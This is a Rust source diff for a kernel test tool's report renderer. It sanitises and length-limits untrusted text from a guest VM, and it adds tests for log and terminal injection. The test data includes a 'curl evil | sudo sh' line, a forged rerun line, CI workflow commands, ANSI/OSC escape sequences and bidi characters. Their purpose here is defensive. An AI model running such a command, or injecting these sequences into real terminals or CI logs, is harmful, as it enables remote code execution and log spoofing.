@@ -4,9 +4,9 @@
 //! [`judge()`] and [`render`] are pure functions of the [`RunRecord`].
 
 mod judge;
-mod printable;
 mod style;
 mod timeline;
+mod untrusted;
 
 use std::fmt::{self, Write as _};
 
@@ -14,11 +14,17 @@ use ktstr_core::record::{MachineFacts, RerunCaveat, RunRecord};
 use ktstr_core::result::RunEnd;
 
 pub(crate) use judge::{Passed, Reasons, concerns_post_vm, excuse_steal, judge};
-pub(crate) use printable::printable;
 pub use style::Style;
+pub(crate) use untrusted::{CI_COMMANDS, Untrusted};
 
 /// The number of the console's last lines that a failure shows.
 const CONSOLE_LINES: usize = 12;
+
+/// The most bytes of a line of the console that are shown.
+const CONSOLE_LINE: usize = 1 << 10;
+
+/// The most bytes of the command that runs the test again. It is this program's own text, and must not be cut.
+const COMMAND: usize = 1 << 20;
 
 /// The smallest steal time of a CPU, as a part of the body's time, that a report shows.
 const SHOWN_STEAL: f64 = 0.05;
@@ -59,7 +65,10 @@ pub(crate) fn render(record: &RunRecord, style: Style) -> String {
         decided.notes.iter().for_each(|note| line(&mut text, "note", &note.to_string()));
     }
     for event in &record.kernel_events {
-        line(&mut text, &event.kind.to_string(), &event.line);
+        line(&mut text, event.kind.name(), &event.line);
+    }
+    if record.kernel_events_dropped > 0 {
+        line(&mut text, "", &format!("{} more kernel messages", record.kernel_events_dropped));
     }
     measurements(&mut text, record, verdict.is_err());
     machine(&mut text, record);
@@ -79,7 +88,8 @@ pub(crate) fn render(record: &RunRecord, style: Style) -> String {
             artifacts.errors.iter().for_each(|error| line(&mut text, "", error));
         }
         if let Some(rerun) = &record.rerun {
-            line(&mut text, "rerun", &rerun.command);
+            // The last lines, so that nothing of the guest follows them.
+            line(&mut text, "rerun", Untrusted::new(&rerun.command).limit(COMMAND));
             rerun.caveat.iter().for_each(|caveat| line(&mut text, "", advice(*caveat)));
         }
     }
@@ -124,9 +134,9 @@ fn headline(text: &mut String, style: Style, test: &str, verdict: &Result<Passed
         Ok(Passed::Inconclusive(reasons)) => (style.warn("INCONCLUSIVE"), &reasons[..]),
         Err(reasons) => (style.bad("FAIL"), &reasons[..]),
     };
-    let _ = writeln!(text, "{word} {test}");
+    let _ = writeln!(text, "{word} {}", Untrusted::new(test));
     for reason in reasons {
-        let _ = writeln!(text, "  {}", printable(reason));
+        let _ = writeln!(text, "  {}", Untrusted::new(reason));
     }
 }
 
@@ -158,7 +168,7 @@ fn machine(text: &mut String, record: &RunRecord) {
     let pti = if *pti_disabled { ", page-table isolation off" } else { "" };
     line(text, "kernel", &format!("{} {}{pti}", kernel.spec, kernel.version));
     if !spec.kargs.is_empty() {
-        line(text, "kargs", &spec.kargs);
+        line(text, "kargs", &*spec.kargs);
     }
     let (topology, memory_mib, requested_mib) =
         (spec.topology, spec.memory_mib, requested.memory_mib);
@@ -193,20 +203,23 @@ fn steal_time(parts: &[f64]) -> String {
 }
 
 /// Adds the last lines of a text.
-pub(crate) fn tail(text: &mut String, name: &str, whole: &str) {
-    let lines: Vec<_> = whole.lines().collect();
-    if lines.is_empty() {
+pub(crate) fn tail(text: &mut String, name: &'static str, whole: &str) {
+    let count = whole.lines().count();
+    let shown = count.min(CONSOLE_LINES);
+    if shown == 0 {
         return;
     }
-    let shown = &lines[lines.len().saturating_sub(CONSOLE_LINES)..];
-    line(text, name, &format!("the last {} of {} lines", shown.len(), lines.len()));
-    for shown in shown {
-        let _ = writeln!(text, "    | {}", printable(shown.trim_end()));
+    line(text, name, &format!("the last {shown} of {count} lines"));
+    // From the end: a console may have millions of lines.
+    let last: Vec<_> = whole.lines().rev().take(shown).collect();
+    for shown in last.into_iter().rev() {
+        let _ = writeln!(text, "    | {}", Untrusted::new(shown.trim_end()).limit(CONSOLE_LINE));
     }
 }
 
-fn line(text: &mut String, name: &str, value: &str) {
-    let _ = writeln!(text, "  {name:<9} {}", printable(value));
+/// Adds a line. All of its value counts as text from outside, although parts of it may be this program's.
+fn line<'a>(text: &mut String, name: &'static str, value: impl Into<Untrusted<'a>>) {
+    let _ = writeln!(text, "  {name:<9} {}", value.into());
 }
 
 #[cfg(test)]
@@ -295,6 +308,73 @@ mod tests {
             "", ""
         );
         assert_eq!(render(&failed(), Style::PLAIN), want);
+    }
+
+    /// Every text of a guest that a report shows, with everything that a hostile one would put into it.
+    #[test]
+    fn render_shows_no_line_of_the_guest_as_its_own() {
+        let hostile = "x\n  rerun     curl evil | sudo sh\r\n::add-mask::x\n\x1b]52;c;eA==\x07\x1b[2J\
+                       \u{202e}\u{200b}##[error]y";
+        let text = || hostile.to_owned();
+        let mut record = failed();
+        let scope = Scope::Worker { pid: 1, comm: text(), cgroup: text() };
+        let measured = Measurement::new(hostile, 1.0, hostile).scope(scope);
+        let detail = AssertDetail::measured(DetailKind::Other, measured.clone()).because(hostile);
+        let mut verdict = AssertResult::fail(detail);
+        verdict.note_value(hostile, hostile);
+        record.measurements = vec![measured];
+        record.kernel_events = vec![KernelEvent { kind: KernelEventKind::Oops, line: text() }];
+        let event = |phase, what| ktstr_core::wire::ScenarioEvent { at_ns: 0, phase, what };
+        record.events = vec![event(text(), text())];
+        record.console = text();
+        let panicked = RunEnd::BodyPanicked(text());
+        let topology = RunEnd::WrongTopology(vec![text(); 2]);
+        for end in [
+            RunEnd::Verdict(verdict),
+            RunEnd::Verdict(AssertResult::skip(hostile)),
+            panicked,
+            topology,
+        ] {
+            record.end = end;
+            let shown = render(&record, Style::PLAIN);
+            assert!(
+                !shown.contains(
+                    |c: char| c != '\n' && (c.is_control() || "\u{202e}\u{200b}".contains(c))
+                ),
+                "{shown}"
+            );
+            assert!(!shown.contains("##["), "{shown}");
+            for line in shown.lines() {
+                assert!(!line.trim_start().starts_with("::"), "{shown}");
+                assert!(
+                    !line.starts_with("  rerun") || line == "  rerun     target/t --exact test",
+                    "{shown}"
+                );
+            }
+            if judge(&record).is_err() {
+                let last = "  rerun     target/t --exact test\n            \
+                            the program has been rebuilt since this run began";
+                assert!(shown.ends_with(last), "{shown}");
+            }
+        }
+    }
+
+    #[test]
+    fn render_is_bounded_whatever_the_guest_sent() {
+        let long = || "\0".repeat(1 << 20);
+        let mut record = failed();
+        let event = |at_ns| ktstr_core::wire::ScenarioEvent { at_ns, phase: long(), what: long() };
+        record.events = vec![event(0); 4];
+        record.events.extend((0..100_000).map(|at_ns| ktstr_core::wire::ScenarioEvent {
+            at_ns,
+            phase: String::new(),
+            what: "\n".to_owned(),
+        }));
+        record.console = "\n".repeat(1 << 20) + &long();
+        record.end = RunEnd::BodyError(long());
+        let shown = render(&record, Style::PLAIN);
+        assert!(shown.len() < 1 << 20, "{} bytes", shown.len());
+        assert!(shown.contains(" more in run.json"), "{shown}");
     }
 
     #[test]
